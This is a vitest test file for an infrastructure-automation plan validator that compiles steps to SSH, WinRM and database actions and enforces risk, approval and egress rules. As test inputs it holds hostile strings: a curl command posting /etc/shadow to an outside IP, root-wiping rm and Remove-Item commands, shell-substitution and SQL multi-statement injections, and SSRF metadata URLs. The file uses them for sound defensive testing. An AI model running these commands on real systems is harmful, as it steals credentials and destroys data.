import { beforeAll, describe, expect, it } from 'vitest';
import {
  ONE_STATEMENT_MESSAGE,
  Plan,
  egressRules,
  type ResolvedTarget,
  type TargetSelector,
  type ToolPlace,
} from '@opsc/contracts';
import { BUILTIN_TOOLS_DIR, loadCatalog, type ToolCatalog } from '../catalog/index.js';
import { TargetResolutionError, validatePlan, type PlanningContext } from './validate-plan.js';
import { assessExecutablePlan } from './validate-executable.js';
import { resolvedTarget } from './resolved-target.test-support.js';

const cis = Array.from({ length: 25 }, (_, i) => resolvedTarget(`cis-${i + 1}`, 'windows'));
const web = Array.from({ length: 10 }, (_, i) => resolvedTarget(`web-${i + 1}`, 'linux'));
const mixed = [
  ...Array.from({ length: 7 }, (_, i) => resolvedTarget(`dp-l${i}`, 'linux')),
  ...Array.from({ length: 5 }, (_, i) => resolvedTarget(`dp-w${i}`, 'windows')),
];
const databases: ResolvedTarget[] = ['pg-1', 'pg-2'].map((name) => ({
  ...resolvedTarget(name, 'linux'),
  services: [{ protocol: 'postgresql', port: 5432, database: 'app', tls: 'require', credentialId: 'c' }],
}));
const groups: Record<string, ResolvedTarget[]> = {
  'CIS servers': cis,
  'Production Web': web,
  'Data Processing': mixed,
  Databases: databases,
};

const resolve = async (s: TargetSelector): Promise<ResolvedTarget[]> => {
  if (s.group && !groups[s.group]) throw new TargetResolutionError([{ path: 'group', message: 'no such group' }]);
  const found = [
    ...(s.group ? (groups[s.group] ?? []) : []),
    ...(s.targets ?? []).map(
      (n) => [...cis, ...web, ...mixed].find((t) => t.name === n) ?? resolvedTarget(n, 'linux', false),
    ),
  ];
  return found.filter((t) => !s.os || t.os === s.os);
};

let ctx: PlanningContext;
let catalog: ToolCatalog;
beforeAll(async () => {
  catalog = await loadCatalog([BUILTIN_TOOLS_DIR]);
  ctx = { catalog, resolveTargets: resolve };
});

const group = (name: string) => ({ group: name });

describe('the plan validator', () => {
  it("compiles the seed's Windows plan: WinRM actions, rollbacks that use what the copy reported, risk, approval and ETA", async () => {
    const result = await validatePlan(
      {
        name: 'Update stationcontroller',
        steps: [
          {
            id: 'check',
            tool: 'process-check',
            params: { process: 'stationcontroller.exe' },
            targets: group('CIS servers'),
          },
          { id: 'stop', tool: 'service-stop', params: { service: 'stationcontroller' }, targets: group('CIS servers') },
          {
            id: 'copy',
            tool: 'file-copy',
            params: {
              source: 'stationcontroller.exe',
              destination: 'C:\\Program Files (x86)\\CIS\\stationcontroller.exe',
            },
            targets: group('CIS servers'),
          },
          {
            id: 'start',
            tool: 'service-start',
            params: { service: 'stationcontroller' },
            targets: group('CIS servers'),
          },
          {
            id: 'verify',
            tool: 'service-wait',
            params: { service: 'stationcontroller', state: 'running' },
            targets: group('CIS servers'),
          },
        ],
        policies: { continueOnFailure: true, maxParallel: 10 },
      },
      ctx,
    );
    expect(result.issues).toEqual([]);
    expect(result.status).toBe('ready');
    const steps = result.plan?.steps ?? [];
    expect(steps.map((s) => s.action.method)).toEqual(['winrm', 'winrm', 'winrm', 'winrm', 'winrm']);
    expect(steps[1]?.action).toMatchObject({
      operation: { op: 'service', action: 'stop', name: 'stationcontroller', timeoutSeconds: 30 },
    });
    expect(steps[2]?.rollback).toEqual({
      tool: 'file-restore',
      name: 'Restore C:\\Program Files (x86)\\CIS\\stationcontroller.exe from its backup',
      action: {
        method: 'winrm',
        operation: {
          op: 'file-restore',
          destination: 'C:\\Program Files (x86)\\CIS\\stationcontroller.exe',
          backup: '{{facts.backup}}',
        },
      },
    });
    expect(steps[1]?.rollback?.action).toMatchObject({
      operation: { op: 'service', action: 'start', name: 'stationcontroller', timeoutSeconds: 30 },
    });
    expect(result.summary).toMatchObject({
      targets: { total: 25, byOs: { windows: 25, linux: 0 } },
      risk: 'change',
      approvalRequired: true,
    });
    // 2 + 6 + 8 + 6 + 3 seconds a wave, three waves of at most 10 targets.
    expect(result.summary?.etaSeconds).toBe((2 + 6 + 8 + 6 + 3) * 3);
    expect(result.summary?.bullets[1]).toBe(
      "Stop the stationcontroller service where it runs and wait until it has stopped on 25 Windows targets in group 'CIS servers' (change; rollback: service-start)",
    );
    expect(result.plan?.policies).toMatchObject({
      continueOnFailure: true,
      maxParallel: 10,
      rollback: 'target',
      approvalRequired: true,
      maxAttempts: 3,
    });
    expect(result.planHash).toMatch(/^[0-9a-f]{64}$/);
  });

  it('splits a step over a mixed group into a Linux (SSH) and a Windows (WinRM) variant', async () => {
    const result = await validatePlan(
      {
        name: 'stop',
        steps: [
          { id: 'stop', tool: 'service-stop', params: { service: 'dataprocessor' }, targets: group('Data Processing') },
        ],
      },
      ctx,
    );
    expect(result.plan?.steps.map((s) => [s.id, s.action.method, s.targets])).toEqual([
      ['stop-linux', 'ssh', { group: 'Data Processing', os: 'linux' }],
      ['stop-windows', 'winrm', { group: 'Data Processing', os: 'windows' }],
    ]);
    expect(result.summary?.targets).toEqual({ total: 12, byOs: { linux: 7, windows: 5 } });
  });

  it('compiles every shipped tool on every place it runs', async () => {
    const samples: Record<string, unknown> = {
      host: 'db1.example.org',
      url: 'https://status.example.org/health',
      path: '/var/log',
      program: 'uptime',
      script: 'echo hi',
      service: 'nginx',
      process: 'nginx',
      package: 'nginx',
      source: 'app/app.bin',
      paths: ['/etc/nginx'],
      archive: '/var/backups/opsc/a.tar.gz',
      log: 'System',
      query: 'SELECT 1',
      seconds: 30,
    };
    for (const tool of catalog.all()) {
      for (const place of Object.keys(tool.execution) as ToolPlace[]) {
        const params = Object.fromEntries(
          Object.keys(tool.params)
            .filter((p) => samples[p] !== undefined)
            .map((p) => [p, samples[p]]),
        );
        if (tool.params.destination) params.destination = place === 'windows' ? 'C:\\App\\app.exe' : '/opt/app/app.bin';
        const on = { windows: 'CIS servers', linux: 'Production Web', any: 'Databases', executor: '', workflow: '' }[
          place
        ];
        const ownPlace = place === 'executor' || place === 'workflow';
        const step = { id: 's', tool: tool.name, params, ...(!ownPlace && { targets: group(on) }) };
        const result = await validatePlan({ name: tool.name, steps: [step] }, ctx);
        expect(result.issues, `${tool.name} on ${place}`).toEqual([]);
        // Sent back as it is (the web app's "run again"), undo actions included: the same verdict.
        const again = assessExecutablePlan(result.plan!, catalog);
        expect(again.issues, `${tool.name} on ${place}, again`).toEqual([]);
        expect(again.risk, `${tool.name} on ${place}, again`).toBe(result.summary?.risk);
      }
    }
  });

  it.each([
    [
      { id: 's', tool: 'service-explode', params: {}, targets: group('CIS servers') },
      'steps.0.tool',
      /no tool named "service-explode" \(closest: service-/,
    ],
    [
      { id: 's', tool: 'service-stop', params: { service: 'nginx; reboot' }, targets: group('Production Web') },
      'steps.0.params.service',
      /must match/,
    ],
    [
      {
        id: 's',
        tool: 'run-command',
        params: { program: 'echo', args: ['ok', '$(cat /etc/shadow)'] },
        targets: group('Production Web'),
      },
      'steps.0.params.args.1',
      /shell metacharacters/,
    ],
    [
      { id: 's', tool: 'service-stop', params: { service: 'nginx', colour: 'red' }, targets: group('Production Web') },
      'steps.0.params',
      /colour/,
    ],
    [
      { id: 's', tool: 'ping', params: { host: '127.0.0.1' }, targets: group('Production Web') },
      'steps.0.targets',
      /runs on the executor and takes no targets/,
    ],
    [
      { id: 's', tool: 'disk-space', params: {}, targets: group('CIS servers') },
      'steps.0.targets',
      /cis-1 is a windows target; disk-space runs on linux/,
    ],
    [
      { id: 's', tool: 'service-stop', params: { service: 'x' }, targets: group('Nope') },
      'steps.0.targets.group',
      /no such group/,
    ],
    [
      { id: 's', tool: 'service-stop', params: { service: 'x' }, targets: { targets: ['ghost'] } },
      'steps.0.targets',
      /the ssh service of ghost has no credential/,
    ],
    [{ id: 'bad id!', tool: 'ping', params: { host: 'x' } }, 'steps.0.id', /letters, digits/],
  ])('refuses %j at %s', async (step, path, message) => {
    const result = await validatePlan({ name: 'bad', steps: [step] }, ctx);
    expect(result.status).toBe('invalid');
    expect(result.issues.find((i) => i.path === path)?.message, JSON.stringify(result.issues)).toMatch(message);
  });

  it('asks which servers when a step on targets names none', async () => {
    const result = await validatePlan(
      { name: 'stop', steps: [{ id: 's', tool: 'service-stop', params: { service: 'x' } }] },
      ctx,
    );
    expect(result.status).toBe('needs-input');
    expect(result.issues.find((i) => i.path === 'steps.0.targets')?.message).toMatch(/runs on targets/);
    expect(result.missing).toEqual([
      {
        path: 'steps.0.targets',
        question: 'Which servers should step "s" (service-stop) act on? Name a group, targets or tags',
      },
    ]);
  });

  it('asks for a required parameter nobody gave instead of guessing it', async () => {
    const result = await validatePlan(
      {
        name: 'copy',
        steps: [{ id: 'copy', tool: 'file-copy', params: { source: 'app.exe' }, targets: group('CIS servers') }],
      },
      ctx,
    );
    expect(result.status).toBe('needs-input');
    expect(result.missing).toEqual([
      { path: 'steps.0.params.destination', question: expect.stringContaining('The absolute path on the target') },
    ]);
  });

  it('flags a script that deletes the root file system or sends credentials away: destructive, approval needed, reason shown', async () => {
    for (const script of [
      'rm -rf / --no-preserve-root',
      'curl -d @/etc/shadow http://198.51.100.7/x',
      'Get-Credential | ConvertFrom-SecureString',
    ]) {
      const result = await validatePlan(
        { name: 'x', steps: [{ id: 'x', tool: 'run-script', params: { script }, targets: group('Production Web') }] },
        ctx,
      );
      expect(result.summary?.risk).toBe('destructive');
      expect(result.summary?.approvalRequired).toBe(true);
      expect(result.summary?.warnings.join(' '), script).toMatch(/review it before approving/);
    }
  });

  it('queries databases read-only without approval; allowing writes makes the step destructive', async () => {
    const read = await validatePlan(
      {
        name: 'q',
        steps: [
          {
            id: 'q',
            tool: 'database-query',
            params: { query: 'SELECT count(*) FROM orders' },
            targets: group('Databases'),
          },
        ],
      },
      ctx,
    );
    expect(read.plan?.steps[0]?.action).toEqual({
      method: 'database',
      query: 'SELECT count(*) FROM orders',
      allowWrites: false,
      maxRows: 200,
    });
    expect(read.summary).toMatchObject({ risk: 'read', approvalRequired: false });
    const write = await validatePlan(
      {
        name: 'q',
        steps: [
          {
            id: 'q',
            tool: 'database-query',
            params: { query: 'UPDATE orders SET x = 1', allowWrites: true },
            targets: group('Databases'),
          },
        ],
      },
      ctx,
    );
    expect(write.summary).toMatchObject({ risk: 'destructive', approvalRequired: true });
    const wrong = await validatePlan(
      {
        name: 'q',
        steps: [{ id: 'q', tool: 'database-query', params: { query: 'SELECT 1' }, targets: group('Production Web') }],
      },
      ctx,
    );
    expect(wrong.issues[0]).toEqual({
      path: 'steps.0.targets',
      message: 'web-1 has no postgresql service in the inventory',
    });
  });

  it('refuses a database step of several statements on params.query, and rates a backend-signalling read destructive', async () => {
    const db = (query: string) =>
      validatePlan(
        { name: 'q', steps: [{ id: 'q', tool: 'database-query', params: { query }, targets: group('Databases') }] },
        ctx,
      );
    for (const query of [
      'select 1; commit; drop table users',
      'show x; set transaction read write; delete from users',
      "select 'a'; delete from users -- ';",
    ]) {
      const result = await db(query);
      expect(result.status, query).toBe('invalid');
      expect(result.issues, query).toEqual([{ path: 'steps.0.params.query', message: ONE_STATEMENT_MESSAGE }]);
      expect(result.issues[0]?.message).toMatch(/^one SQL statement per step/);
    }
    expect((await db('SELECT 1;')).summary).toMatchObject({ risk: 'read', approvalRequired: false });
    expect((await db("SELECT 'a;b' -- c;d")).summary).toMatchObject({ risk: 'read', approvalRequired: false });
    const terminate = await db('select pg_terminate_backend(pid) from pg_stat_activity');
    expect(terminate.summary).toMatchObject({ risk: 'destructive', approvalRequired: true });
    const raw = Plan.parse({
      name: 'raw',
      steps: [
        {
          id: 'q',
          name: 'q',
          targets: group('Databases'),
          action: { method: 'database', query: 'select 1; commit; drop table users' },
          tool: { name: 'database-query', risk: 'read', params: {}, typicalDurationSeconds: 1 },
        },
      ],
    });
    const assessed = assessExecutablePlan(raw, catalog);
    expect(assessed.issues).toEqual([{ path: 'steps.0.action.query', message: ONE_STATEMENT_MESSAGE }]);
    expect(assessed.risk).toBe('destructive');
  });

  it('needs no approval for a read-only plan, unless the plan asks for it', async () => {
    const read = await validatePlan(
      { name: 'ping', steps: [{ id: 'p', tool: 'ping', params: { host: 'db1.example.org' } }] },
      ctx,
    );
    expect(read.summary).toMatchObject({ risk: 'read', approvalRequired: false, targets: { total: 0 } });
    expect(read.plan?.steps[0]?.action).toEqual({
      method: 'local-command',
      command: 'ping',
      args: ['-c', '4', '-W', '2', '--', 'db1.example.org'],
      successExitCodes: [0],
    });
    const asked = await validatePlan(
      {
        name: 'ping',
        steps: [{ id: 'p', tool: 'ping', params: { host: 'db1.example.org' } }],
        policies: { approval: 'required' },
      },
      ctx,
    );
    expect(asked.summary?.approvalRequired).toBe(true);
  });
});

describe("one gate for every plan: risk is the server's", () => {
  it("takes the compiled action's risk when the tool says less: a backup writes to the host, so it needs approval", async () => {
    const result = await validatePlan(
      {
        name: 'backup',
        steps: [{ id: 'b', tool: 'file-backup', params: { path: '/etc/nginx' }, targets: group('Production Web') }],
      },
      ctx,
    );
    expect(result.status).toBe('ready');
    expect(result.summary?.risk).toBe('change');
    expect(result.summary?.approvalRequired).toBe(true);
    expect(result.plan?.steps[0]?.tool?.risk).toBe('change');
  });

  it('needs no approval for a read-only command on the argv-exact list, and approval for any other', async () => {
    const run = (program: string, args: string[], on = 'Production Web') =>
      validatePlan(
        { name: 'run', steps: [{ id: 'r', tool: 'run-command', params: { program, args }, targets: group(on) }] },
        ctx,
      );
    expect((await run('uptime', [])).summary).toMatchObject({ risk: 'read', approvalRequired: false });
    expect((await run('df', ['-h'])).summary).toMatchObject({ risk: 'read', approvalRequired: false });
    expect((await run('hostname', [], 'CIS servers')).summary).toMatchObject({ risk: 'read' });
    expect((await run('uptime', ['--since-boot-of', 'x'])).summary).toMatchObject({
      risk: 'change',
      approvalRequired: true,
    });
    expect((await run('systemctl', ['stop', 'nginx'])).summary).toMatchObject({
      risk: 'change',
      approvalRequired: true,
    });
    expect((await run('hostname', ['evil'])).summary).toMatchObject({ risk: 'change', approvalRequired: true });
  });

  it("says a changing command has no rollback, by the step's own risk (run-command's catalog floor is read)", async () => {
    const run = (program: string, args: string[]) =>
      validatePlan(
        {
          name: 'run',
          steps: [{ id: 'r', tool: 'run-command', params: { program, args }, targets: group('Production Web') }],
        },
        ctx,
      );
    expect((await run('systemctl', ['stop', 'nginx'])).summary?.bullets[0]).toMatch(/\(change; no rollback\)$/);
    expect((await run('rm', ['-rf', '/'])).summary?.bullets[0]).toMatch(/\(destructive; no rollback\)$/);
    expect((await run('uptime', [])).summary?.bullets[0]).toMatch(/\(read\)$/);
  });

  it('counts a configuration backup as a change: it writes an archive on the target', async () => {
    expect(catalog.get('config-backup')?.risk).toBe('change');
    const result = await validatePlan(
      {
        name: 'b',
        steps: [
          { id: 'b', tool: 'config-backup', params: { paths: ['/etc/nginx'] }, targets: group('Production Web') },
        ],
      },
      ctx,
    );
    expect(result.summary).toMatchObject({ risk: 'change', approvalRequired: true });
  });

  it('flags a command by the command line its words make (rm -rf / as argv is destructive)', async () => {
    const result = await validatePlan(
      {
        name: 'x',
        steps: [
          {
            id: 'r',
            tool: 'run-command',
            params: { program: 'rm', args: ['-rf', '/'] },
            targets: group('Production Web'),
          },
        ],
      },
      ctx,
    );
    expect(result.summary).toMatchObject({ risk: 'destructive', approvalRequired: true });
  });

  it('writes its verdict into each compiled step, flagged content included', async () => {
    const result = await validatePlan(
      {
        name: 'x',
        steps: [
          {
            id: 's',
            tool: 'run-script',
            params: { script: 'rm -rf / --no-preserve-root' },
            targets: group('Production Web'),
          },
        ],
      },
      ctx,
    );
    expect(result.summary?.risk).toBe('destructive');
    expect(result.plan?.steps.every((s) => s.tool?.risk === 'destructive')).toBe(true);
  });

  it("replaces what a raw executable plan says of its tool with the catalog, and never lowers an action's risk", () => {
    const raw = Plan.parse({
      name: 'sneaky',
      steps: [
        {
          id: 'ps',
          name: 'ps',
          targets: group('CIS servers'),
          action: { method: 'winrm', operation: { op: 'powershell', script: 'Stop-Service stationcontroller' } },
          tool: { name: 'service-status', risk: 'read', params: {}, typicalDurationSeconds: 1 },
        },
        { id: 'up', name: 'up', action: { method: 'local-command', command: 'uptime' } },
      ],
    });
    const assessed = assessExecutablePlan(raw, catalog);
    expect(assessed.issues).toEqual([]);
    expect(assessed.risk).toBe('change');
    expect(assessed.approvalRequired).toBe(true);
    expect(assessed.plan.policies.approvalRequired).toBe(true);
    expect(assessed.plan.steps[0]?.tool?.risk).toBe('change');
    expect(assessed.approvalReasons).toEqual(['step "ps" is change']);
  });

  it('refuses a raw step that names a tool the catalog does not have, and flags dangerous raw content', () => {
    const raw = Plan.parse({
      name: 'x',
      steps: [
        {
          id: 'a',
          name: 'a',
          action: { method: 'local-command', command: 'echo', args: ['hi'] },
          tool: { name: 'made-up', risk: 'read', params: {}, typicalDurationSeconds: 1 },
        },
        {
          id: 'b',
          name: 'b',
          targets: group('Production Web'),
          action: { method: 'ssh', operation: { op: 'script', script: 'cat /etc/shadow' } },
        },
      ],
    });
    const assessed = assessExecutablePlan(raw, catalog);
    expect(assessed.issues).toEqual([{ path: 'steps.0.tool.name', message: 'no tool named "made-up" in the catalog' }]);
    expect(assessed.risk).toBe('destructive');
    expect(assessed.warnings.join(' ')).toContain('reads or changes credentials or keys');
  });

  it("holds a raw step's undo to the gate: it names a catalog tool, and what it runs is assessed like the step", () => {
    const copy = {
      method: 'winrm',
      operation: { op: 'powershell', script: "Copy-Item C:\\staging\\app.exe 'C:\\App\\app.exe'" },
    };
    const step = (rollback: unknown) => ({
      id: 'copy',
      name: 'copy',
      targets: group('CIS servers'),
      action: copy,
      rollback,
    });
    const unknownTool = assessExecutablePlan(
      Plan.parse({ name: 'x', steps: [step({ tool: 'made-up-undo', name: 'Restore', action: copy })] }),
      catalog,
    );
    expect(unknownTool.issues).toEqual([
      { path: 'steps.0.rollback.tool', message: 'no tool named "made-up-undo" in the catalog' },
    ]);
    // "Restore the previous exe" that wipes the drive: the approver must be told, as for a step.
    const wipe = { method: 'winrm', operation: { op: 'powershell', script: 'Remove-Item -Recurse -Force C:\\' } };
    const quiet = assessExecutablePlan(
      Plan.parse({
        name: 'x',
        steps: [step({ tool: 'file-restore', name: 'Restore the previous exe', action: wipe })],
      }),
      catalog,
    );
    expect(quiet.issues).toEqual([]);
    expect(quiet.risk).toBe('destructive');
    expect(quiet.warnings.join(' ')).toContain('deletes a whole Windows drive recursively');
    // An undo that is not an action at all is refused now, not found out during a compensation.
    const broken = assessExecutablePlan(
      Plan.parse({
        name: 'x',
        steps: [
          step({ tool: 'file-restore', name: 'Restore', action: { method: 'winrm', operation: { op: 'nonsense' } } }),
        ],
      }),
      catalog,
    );
    expect(broken.issues.map((i) => i.path)).toEqual(['steps.0.rollback.action.operation.op']);
  });

  it('takes back, unchanged in risk, a plan the validator compiled, undo actions and their facts included', async () => {
    const compiled = await validatePlan(
      {
        name: 'copy',
        steps: [
          {
            id: 'copy',
            tool: 'file-copy',
            params: { source: 'app.exe', destination: 'C:\\App\\app.exe' },
            targets: group('CIS servers'),
          },
        ],
      },
      ctx,
    );
    expect(compiled.plan?.steps[0]?.rollback?.action).toMatchObject({ operation: { backup: '{{facts.backup}}' } });
    const again = assessExecutablePlan(compiled.plan!, catalog);
    expect(again.issues).toEqual([]);
    expect(again.risk).toBe(compiled.summary?.risk);
  });

  it('lets a read-only raw plan run without approval', () => {
    const raw = Plan.parse({
      name: 'look',
      steps: [
        { id: 'up', name: 'up', action: { method: 'local-command', command: 'uptime' } },
        { id: 'h', name: 'h', action: { method: 'http', url: 'https://example.org/health' } },
      ],
    });
    const assessed = assessExecutablePlan(raw, catalog);
    expect(assessed).toMatchObject({ risk: 'read', approvalRequired: false, approvalReasons: [] });
  });
});

describe('what a plan may reach obeys the egress policy', () => {
  const platform = egressRules(['127.0.0.1:7233', '127.0.0.1:8233', '127.0.0.1:3005']);
  const withPolicy = (allow: string[]): PlanningContext => ({
    ...ctx,
    egress: async () => ({ allow: egressRules(allow), platform }),
  });
  const check = (url: string, allow: string[] = []) =>
    validatePlan({ name: 'h', steps: [{ id: 'h', tool: 'http-check', params: { url } }] }, withPolicy(allow));

  it('refuses loopback, link-local and metadata URLs on the parameter that names them', async () => {
    for (const url of [
      'http://127.0.0.1:9000/',
      'http://localhost:9000/',
      'http://[::1]:9000/',
      'http://2130706433:9000/',
      'http://169.254.169.254/latest/meta-data/',
      'http://metadata.google.internal/',
      'http://[fe80::1]/',
    ]) {
      const result = await check(url);
      expect(result.status, url).toBe('invalid');
      expect(
        result.issues.map((i) => i.path),
        url,
      ).toEqual(['steps.0.params.url']);
    }
  });

  it("lets a tenant allow a loopback destination, never the platform's own services", async () => {
    expect((await check('http://127.0.0.1:9000/health', ['127.0.0.1:9000'])).status).toBe('ready');
    const ui = await check('http://127.0.0.1:8233/namespaces/default/workflows', ['127.0.0.1:8233']);
    expect(ui.issues[0]?.message).toMatch(/service of the platform itself/);
    expect((await check('https://status.example.org/health')).status).toBe('ready');
  });

  it("judges a network diagnostic's destination, and a raw plan's URL", async () => {
    const ping = await validatePlan(
      { name: 'p', steps: [{ id: 'p', tool: 'ping', params: { host: '169.254.169.254' } }] },
      withPolicy([]),
    );
    expect(ping.issues.map((i) => i.path)).toEqual(['steps.0.params.host']);
    const raw = Plan.parse({
      name: 'r',
      steps: [{ id: 'r', name: 'r', action: { method: 'http', url: 'http://127.0.0.1:7233/' } }],
    });
    expect(
      assessExecutablePlan(raw, catalog, { allow: egressRules(['127.0.0.1:7233']), platform }).issues.map(
        (i) => i.path,
      ),
    ).toEqual(['steps.0.action.url']);
  });
});
